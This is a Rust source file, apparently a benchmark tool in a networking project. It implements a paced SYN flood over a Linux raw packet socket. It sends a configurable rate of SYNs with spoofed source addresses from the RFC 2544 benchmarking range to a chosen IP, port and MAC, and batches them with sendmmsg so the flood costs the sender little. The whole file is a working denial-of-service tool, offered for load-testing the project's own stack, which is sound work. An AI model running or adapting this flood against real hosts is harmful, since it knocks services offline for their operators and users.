//! A paced SYN flood out of a Linux interface, for `scripts/bench-synflood` (root).
//!
//! ```sh
//! flood_raw IFACE DST_MAC DST_IP PORT RATE
//! ```
//!
//! It sends RATE SYNs a second out of IFACE, from spoofed sources in 198.18.0.0/15 (the
//! benchmarking range, RFC 2544) with varied ports, sequence numbers and timestamps (the
//! frames `examples/synflood.rs` uses on virtual time), to DST_IP:PORT at DST_MAC, as the floods RFC 4987 §2 describes do: the SYN-ACKs go to
//! addresses that never answer. Unlike `hping3 -i u50`, which sleeps between SYNs, reaches
//! about 8,000 a second on this kind of machine and spins a core doing so, it wakes every
//! 200 µs and hands all the SYNs due since then to the kernel in one `sendmmsg(2)` on a packet
//! socket, so the flood costs the machine little beside what it costs its target. It runs
//! until killed, and prints the number it sent on SIGINT or SIGTERM.

#[cfg(target_os = "linux")]
#[path = "support/spoofed_syn.rs"]
mod support;

#[cfg(target_os = "linux")]
fn main() {
    if let Err(e) = flood::run(std::env::args().skip(1).collect()) {
        eprintln!("flood_raw: {e}");
        std::process::exit(2);
    }
}

#[cfg(not(target_os = "linux"))]
fn main() {
    eprintln!("flood_raw: Linux only");
}

#[cfg(target_os = "linux")]
mod flood {
    use super::support::spoofed_syn;
    use ackclock::wire::EthernetAddress;
    use core::net::Ipv4Addr;
    use std::sync::atomic::{AtomicBool, Ordering};

    /// SYNs handed to the kernel per `sendmmsg(2)`, at most.
    const BATCH: usize = 64;
    /// Frames built ahead and reused in turn (each from its own source and port).
    const FRAMES: usize = 65536;
    const TICK_NS: u64 = 200_000;

    static STOP: AtomicBool = AtomicBool::new(false);

    extern "C" fn on_signal(_: libc::c_int) {
        STOP.store(true, Ordering::Relaxed);
    }

    fn parse_mac(s: &str) -> Result<EthernetAddress, String> {
        let v: Vec<u8> = s
            .split(':')
            .map(|b| u8::from_str_radix(b, 16))
            .collect::<Result<_, _>>()
            .map_err(|e| format!("{s}: {e}"))?;
        <[u8; 6]>::try_from(v).map(EthernetAddress).map_err(|_| format!("{s}: not a MAC address"))
    }

    fn now_ns() -> u64 {
        let mut ts = libc::timespec { tv_sec: 0, tv_nsec: 0 };
        // SAFETY: ts is a valid timespec to write into.
        unsafe { libc::clock_gettime(libc::CLOCK_MONOTONIC, &mut ts) };
        ts.tv_sec as u64 * 1_000_000_000 + ts.tv_nsec as u64
    }

    fn sleep_until(ns: u64) {
        let ts = libc::timespec {
            tv_sec: (ns / 1_000_000_000) as libc::time_t,
            tv_nsec: (ns % 1_000_000_000) as libc::c_long,
        };
        // SAFETY: an absolute sleep on a valid timespec; an interrupted sleep just returns early.
        unsafe { libc::clock_nanosleep(libc::CLOCK_MONOTONIC, libc::TIMER_ABSTIME, &ts, core::ptr::null_mut()) };
    }

    pub fn run(args: Vec<String>) -> Result<(), String> {
        let [iface, mac, dst, port, rate] =
            <[String; 5]>::try_from(args).map_err(|_| "usage: flood_raw IFACE DST_MAC DST_IP PORT RATE".to_string())?;
        let mac = parse_mac(&mac)?;
        let dst: Ipv4Addr = dst.parse().map_err(|e| format!("{dst}: {e}"))?;
        let port: u16 = port.parse().map_err(|e| format!("{port}: {e}"))?;
        let rate: u64 = rate.parse().map_err(|e| format!("{rate}: {e}"))?;
        let frames: Vec<Vec<u8>> = (0..FRAMES as u32).map(|n| spoofed_syn(mac, dst, port, n)).collect();

        let cname = std::ffi::CString::new(iface.clone()).map_err(|e| e.to_string())?;
        // SAFETY: plain system calls on values owned here; every result is checked.
        let fd = unsafe {
            let ifindex = libc::if_nametoindex(cname.as_ptr());
            if ifindex == 0 {
                return Err(format!("{iface}: {}", std::io::Error::last_os_error()));
            }
            let fd = libc::socket(libc::AF_PACKET, libc::SOCK_RAW, 0);
            if fd < 0 {
                return Err(format!("socket: {}", std::io::Error::last_os_error()));
            }
            let mut sll: libc::sockaddr_ll = core::mem::zeroed();
            sll.sll_family = libc::AF_PACKET as u16;
            sll.sll_ifindex = ifindex as i32;
            if libc::bind(fd, &sll as *const _ as *const libc::sockaddr, core::mem::size_of_val(&sll) as u32) < 0 {
                return Err(format!("bind {iface}: {}", std::io::Error::last_os_error()));
            }
            // Sleep precisely: the default timer slack of 50 µs would bunch the ticks.
            libc::prctl(libc::PR_SET_TIMERSLACK, 1 as libc::c_ulong);
            let handler = on_signal as extern "C" fn(libc::c_int) as libc::sighandler_t;
            libc::signal(libc::SIGINT, handler);
            libc::signal(libc::SIGTERM, handler);
            fd
        };

        let mut iov: Vec<libc::iovec> =
            (0..BATCH).map(|_| libc::iovec { iov_base: core::ptr::null_mut(), iov_len: 0 }).collect();
        // SAFETY: an all-zero mmsghdr is valid; its pointers are set before each use.
        let mut msgs: Vec<libc::mmsghdr> = (0..BATCH).map(|_| unsafe { core::mem::zeroed() }).collect();
        let (start, mut sent, mut dropped, mut next) = (now_ns(), 0u64, 0u64, 0usize);
        let mut tick = start;
        while !STOP.load(Ordering::Relaxed) {
            let due = ((now_ns() - start) as u128 * rate as u128 / 1_000_000_000) as u64;
            while sent + dropped < due && !STOP.load(Ordering::Relaxed) {
                let k = ((due - sent - dropped) as usize).min(BATCH);
                for i in 0..k {
                    let f = &frames[(next + i) % FRAMES];
                    iov[i] = libc::iovec { iov_base: f.as_ptr() as *mut _, iov_len: f.len() };
                    msgs[i].msg_hdr.msg_iov = &mut iov[i];
                    msgs[i].msg_hdr.msg_iovlen = 1;
                }
                // SAFETY: msgs[..k] point at iovecs over frames that outlive the call.
                let r = unsafe { libc::sendmmsg(fd, msgs.as_mut_ptr(), k as u32, 0) };
                if r < 0 {
                    let e = std::io::Error::last_os_error();
                    match e.raw_os_error() {
                        // A full device queue (ENOBUFS) or a signal: that tick's SYNs are lost.
                        Some(libc::ENOBUFS | libc::EAGAIN | libc::EINTR) => dropped += k as u64,
                        _ => return Err(format!("sendmmsg: {e}")),
                    }
                } else {
                    sent += r as u64;
                    dropped += (k - r as usize) as u64;
                }
                next = (next + k) % FRAMES;
            }
            tick += TICK_NS;
            sleep_until(tick);
        }
        let secs = (now_ns() - start) as f64 / 1e9;
        println!(
            "flood_raw: {sent} SYNs in {secs:.1} s ({:.0} a second), {dropped} not taken by the device",
            sent as f64 / secs
        );
        Ok(())
    }
}
